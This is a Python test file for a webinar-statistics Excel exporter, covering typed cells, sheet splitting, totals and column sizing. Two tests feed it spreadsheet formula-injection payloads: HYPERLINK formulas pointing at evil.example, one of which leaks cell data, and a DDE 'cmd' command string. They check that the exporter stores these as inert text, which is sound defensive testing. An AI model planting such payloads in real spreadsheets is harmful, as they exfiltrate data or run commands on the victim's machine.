"""The workbook of hand-made rows: typed cells, formula safety, the row limit, titles."""

from __future__ import annotations

import re
import zipfile
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import openpyxl
import pytest

from webstat.errors import WebstatError
from webstat.reports.workbook import MAX_ATTENDANCE_MINUTES, render_session_xlsx


def header_index(ws) -> dict[str, int]:
    return {cell.value: i for i, cell in enumerate(ws[2]) if cell.value}


def cell(ws, row: int, header: str):
    return ws[row][header_index(ws)[header]]


def test_typed_cells(tmp_path, rows):
    report = rows["report"](
        rows["session"](),
        [
            rows["participant"](
                1,
                registration_fields={"Город": "Казань"},
                agreements=[{"title": "ПД", "accepted_at": "2026-11-01T21:00:00Z"}],
                presence_pct=Decimal("33.33"),
                messages_count=12,
            ),
            rows["participant"](
                2,
                email=None,
                is_guest=True,
                visitor_type="guest",
                first_joined_at=datetime(1, 1, 1, tzinfo=UTC),
            ),
        ],
    )
    counts = render_session_xlsx(report, tmp_path / "r.xlsx")
    assert counts == {
        "participants": 2,
        "no_shows": 0,
        "connections": 0,
        "attendance_minutes": 3,
        "sources": 1,
        "devices": 1,
    }
    ws = openpyxl.load_workbook(tmp_path / "r.xlsx")["Участники"]
    assert cell(ws, 3, "Время присутствия").value == timedelta(hours=1)
    assert cell(ws, 3, "Время присутствия").number_format == "[h]:mm:ss"
    assert cell(ws, 3, "% присутствия").value == 0.3333  # exact, from the Decimal
    assert cell(ws, 3, "% присутствия от активного времени ведущих").number_format == "0.00%"
    assert cell(ws, 3, "Время входа").value == datetime(2026, 11, 2, 13, 0)
    assert cell(ws, 3, "Дата регистрации").value == datetime(2026, 11, 1, 13, 0)
    assert cell(ws, 3, "Сообщения").value == 12
    assert cell(ws, 3, "Сообщения").number_format == "#,##0"
    assert cell(ws, 3, "Рейтинг").value == 30.0
    # a field of its own; «Город» is the IP's city too, so the form's is marked
    assert cell(ws, 3, "Город (анкета)").value == "Казань"
    assert cell(ws, 4, "Город (анкета)").value is None
    assert cell(ws, 3, "Соглашения").value == "ПД (02.11.2026 00:00)"
    assert cell(ws, 4, "E-mail").value == "гость"
    assert cell(ws, 4, "Новый / повторный").value == "Гость"
    # Excel has no dates before 1900: such a time is kept as readable text
    assert cell(ws, 4, "Время входа").value == "0001-01-01 02:30:17"


def test_formula_like_values_stay_text(tmp_path, rows):
    hostile = [
        '=HYPERLINK("http://evil.example","click")',
        "@SUM(A1:A2)",
        "+7 999",
        "-5",
        "\t=tab",
        "=1+1",
    ]
    participants = [rows["participant"](i, chat_name=t, city=t) for i, t in enumerate(hostile)]
    render_session_xlsx(rows["report"](rows["session"](), participants), tmp_path / "r.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "r.xlsx")["Участники"]
    for i, text in enumerate(hostile):
        for header in ("Имя в чате", "Город"):
            c = cell(ws, 3 + i, header)
            assert (c.value, c.data_type, c.quotePrefix) == (text, "s", True)
    with zipfile.ZipFile(tmp_path / "r.xlsx") as z:
        assert not re.search(rb"<f[ >]", z.read("xl/worksheets/sheet1.xml"))


def test_rows_continue_on_a_new_sheet_past_the_limit(tmp_path, rows):
    report = rows["report"](rows["session"](), [rows["participant"](i) for i in range(7)])
    counts = render_session_xlsx(
        report, tmp_path / "r.xlsx", locale="en", max_sheet_rows=5
    )  # title + header + 3 rows
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    assert wb.sheetnames[:4] == [
        "Participants",
        "Participants (2)",
        "Participants (3)",
        "No-shows",
    ]
    names = [r[0].value for n in wb.sheetnames[:3] for r in wb[n].iter_rows(min_row=3)]
    assert names == [f"Имя{i}" for i in range(7)]
    assert [wb[n].max_row - 2 for n in wb.sheetnames[:3]] == [3, 3, 1]
    assert wb["Participants (3)"].auto_filter.ref.endswith("3")
    assert counts["participants"] == 7


def test_limit_must_leave_room_for_a_row(tmp_path, rows):
    report = rows["report"](rows["session"](), [])
    with pytest.raises(ValueError, match="max_sheet_rows"):
        render_session_xlsx(report, tmp_path / "r.xlsx", max_sheet_rows=2)


def test_too_many_minutes_fail_before_anything_is_written(tmp_path, rows):
    minute = {"minute_at": datetime(2026, 11, 2, 10, tzinfo=UTC), "participants_online": 1}
    report = rows["report"](
        rows["session"](), [], attendance=[minute] * (MAX_ATTENDANCE_MINUTES + 1)
    )
    with pytest.raises(WebstatError, match="more than 999,998 attendance minutes"):
        render_session_xlsx(report, tmp_path / "r.xlsx")
    assert not (tmp_path / "r.xlsx").exists()


def test_empty_session_still_makes_a_workbook(tmp_path, rows):
    report = rows["report"](rows["session"](), [], attendance=[], sources=[], devices=[])
    counts = render_session_xlsx(report, tmp_path / "r.xlsx")
    assert counts["participants"] == 0
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    assert wb["Участники"].max_row == 2 and wb["Участники"]["A2"].value == "Имя"


@pytest.mark.parametrize(
    "title",
    ['=HYPERLINK("http://evil.example/?"&A3,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"],
)
def test_a_formula_like_title_stays_text_on_every_sheet(tmp_path, rows, title):
    report = rows["report"](rows["session"](webinar_name=title), [rows["participant"](1)])
    render_session_xlsx(report, tmp_path / "r.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "r.xlsx")
    # participants, no-shows, connections, event, sources, devices, notes: each titled
    assert len(wb.worksheets) == 7
    for ws in wb.worksheets:
        a1 = ws["A1"]
        assert a1.data_type == "s" and a1.value.startswith(title + " · "), ws.title
        assert a1.quotePrefix and a1.font.b, ws.title  # kept text when edited, still bold
    with zipfile.ZipFile(tmp_path / "r.xlsx") as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert not re.search(rb"<f[ >]", z.read(name)), name


def test_chart_row_limit_is_openpyxl_s():
    """The event sheet charts minutes on rows 3…: openpyxl refuses a chart row past
    1,000,000, so 999,998 minutes is the most a workbook can chart."""
    from openpyxl import Workbook
    from openpyxl.chart import Reference

    from webstat.reports.workbook import CHART_MAX_ROW, ROW_HEADER

    ws = Workbook().active
    assert (CHART_MAX_ROW, MAX_ATTENDANCE_MINUTES) == (1_000_000, 999_998)
    Reference(ws, min_col=5, min_row=ROW_HEADER, max_row=ROW_HEADER + MAX_ATTENDANCE_MINUTES)
    with pytest.raises(ValueError, match="Max value is 1000000"):
        Reference(
            ws, min_col=5, min_row=ROW_HEADER, max_row=ROW_HEADER + MAX_ATTENDANCE_MINUTES + 1
        )


def test_period_workbook_of_hand_made_rows(tmp_path, rows):
    from datetime import date

    from webstat.reports.data import Period, PeriodReport, period_totals
    from webstat.reports.workbook import render_period_xlsx

    first = rows["session"](
        event_session_id="es-1",
        participants_count=3,
        registered_count=4,
        messages_count=5,
        no_show_count=2,
        joined_late_count=1,
    )
    second = rows["session"](
        event_session_id="es-2",
        started_at=datetime(2026, 11, 3, 10, tzinfo=UTC),
        report_date=date(2026, 11, 3),
        duration_seconds=5400,
        participants_count=2,
        messages_count=1,
        is_paid=True,
        no_show_count=1,
        low_presence_count=2,
    )
    period = Period(date(2026, 11, 2), date(2026, 11, 8), None, [first, second])
    people = {"unique_people_count": 4, "avg_presence_pct": Decimal("62.50")}
    no_show = rows["participant"](3, has_attended=False, connections_count=0, role=None)
    report = PeriodReport(
        **rows["people"]([rows["participant"](1), rows["participant"](2), no_show]),
        period=period,
        totals=period_totals(period.sessions, people),
        sources=[],
        devices=[],
    )
    counts = render_period_xlsx(report, tmp_path / "p.xlsx", locale="en")
    assert counts == {
        "sessions": 2,
        "people": 0,
        "funnel": 0,
        "series": 0,
        "participants": 2,
        "no_shows": 1,
        "connections": 0,
        "totals": 17,
        "sources": 0,
        "devices": 0,
    }
    wb = openpyxl.load_workbook(tmp_path / "p.xlsx")
    assert wb.sheetnames == [
        "Event sessions",
        "People",
        "Funnel",
        "Series",
        "Participants",
        "No-shows",
        "Join sessions",
        "Totals",
        "Sources",
        "Devices",
        "Notes",
    ]
    assert wb["Event sessions"]["A1"].value == (
        "Statistics for 2026-11-02 – 2026-11-08 · Times: Europe/Moscow (UTC+03:00)"
    )
    # a paid session in the period: the participants sheet has the payment status
    assert "Payment status" in header_index(wb["Participants"])
    totals = {r[0].value: r[1].value for r in wb["Totals"].iter_rows(min_row=3)}
    # 7,200 + 5,400 s = 3.5 h; 3 + 2 participants; 4 + 1 registered; 5 + 1 messages
    assert totals["Event sessions"] == 2
    assert totals["Total duration"] == timedelta(hours=3, minutes=30)
    assert totals["Participants (sum over sessions)"] == 5
    assert totals["Unique people"] == 4
    assert totals["Registered"] == 5
    assert totals["Messages"] == 6
    assert totals["Average presence %"] == 0.625
    # 2 + 1 no-shows; the flags' counts summed: 1 + 0 late, 0 + 2 low presence
    assert totals["No-shows"] == 3
    assert (totals["Joined late"], totals["Left early"], totals["Low presence"]) == (1, 0, 2)


@pytest.mark.parametrize(
    ("email", "width"),
    [
        ("anna.ivanova@example.com", 28.4),  # 24 characters: 24 × 1.1 + 2
        ("a" * 40 + "@subdomain.example-company.com", 60),  # 70: the cap
        ("a@b.c", 24),  # never narrower than the catalogue's width
    ],
)
def test_email_column_fits_the_longest_address(tmp_path, rows, email, width):
    people = [rows["participant"](1), rows["participant"](2, email=email)]
    render_session_xlsx(rows["report"](rows["session"](), people), tmp_path / "r.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "r.xlsx")["Участники"]
    letter = ws.cell(2, header_index(ws)["E-mail"] + 1).column_letter
    longest = max(len(email), len("u1@example.com"))
    assert ws.column_dimensions[letter].width == pytest.approx(min(max(24, longest * 1.1 + 2), 60))
    assert ws.column_dimensions[letter].width == pytest.approx(width)


def test_header_row_is_as_tall_as_its_longest_wrapped_header(tmp_path, rows):
    """«% присутствия от активного времени ведущих» in a 16-wide column: 13 bold characters
    a line (90 % of the width, less one) wrap it into «% присутствия» / «от активного» /
    «времени» / «ведущих» — 4 lines of 15 points, + 2: 62 points (it used to be cut at 32)."""
    render_session_xlsx(rows["report"](rows["session"](), []), tmp_path / "r.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "r.xlsx")["Участники"]
    assert ws.row_dimensions[2].height == 62
    fires = ws.cell(2, header_index(ws)["«Огоньки»"] + 1).column_letter
    assert ws.column_dimensions[fires].width == 12  # «Огоньки» on one line, no lone »
